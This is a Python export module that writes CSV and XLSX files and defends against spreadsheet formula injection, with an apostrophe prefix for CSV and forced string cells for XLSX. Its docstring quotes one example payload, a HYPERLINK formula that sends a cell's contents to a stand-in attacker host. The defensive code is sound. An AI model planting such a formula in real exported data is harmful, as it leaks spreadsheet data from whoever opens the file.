"""Every spreadsheet or CSV the service hands out is written here, and no cell of it runs.

A cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
before one) is a formula to Excel, WPS and LibreOffice: a roster name such as
``=HYPERLINK("http://evil.example/?"&A1, "点击")`` would run on the admin's machine the day
it is exported. Stored data keeps what people typed; the way out neutralises it:

- CSV: such a text cell gets a leading apostrophe (the spreadsheet convention for "text"),
- XLSX: every text cell is written as a string cell, never as a formula.

``tests/quality/test_exports.py`` fails when code outside this module writes CSV or XLSX.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralise(value: Any) -> Any:
    """A cell value that no spreadsheet will evaluate: text that would start a formula gets
    a leading apostrophe; numbers, dates and empty cells are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]], *, excel_bom: bool = True) -> bytes:
    """UTF-8 CSV (with the BOM Excel needs to read Chinese) of neutralised cells."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([neutralise(h) for h in header])
    for row in rows:
        writer.writerow(["" if v is None else neutralise(v) for v in row])
    return ("\ufeff" if excel_bom else "").encode() + buffer.getvalue().encode("utf-8")


def xlsx_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]], *, sheet: str = "Sheet1") -> bytes:
    """An XLSX workbook of one sheet; text cells are string cells, so none is a formula."""
    return xlsx_book([(sheet, header, rows)])


def xlsx_book(sheets: Sequence[tuple[str, Sequence[str], Iterable[Sequence[Any]]]]) -> bytes:
    """An XLSX workbook of several sheets (name, header, rows), written as ``xlsx_bytes`` writes one."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    for name, header, rows in sheets:
        page = book.create_sheet(title=name[:31])

        def cells(values: Sequence[Any], page: Any = page) -> list[Any]:
            out = []
            for value in values:
                cell = WriteOnlyCell(page, value=value)
                if isinstance(value, str):
                    cell.data_type = "s"  # openpyxl would store "=..." as a formula
                out.append(cell)
            return out

        page.append(cells(header))
        for row in rows:
            page.append(cells(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
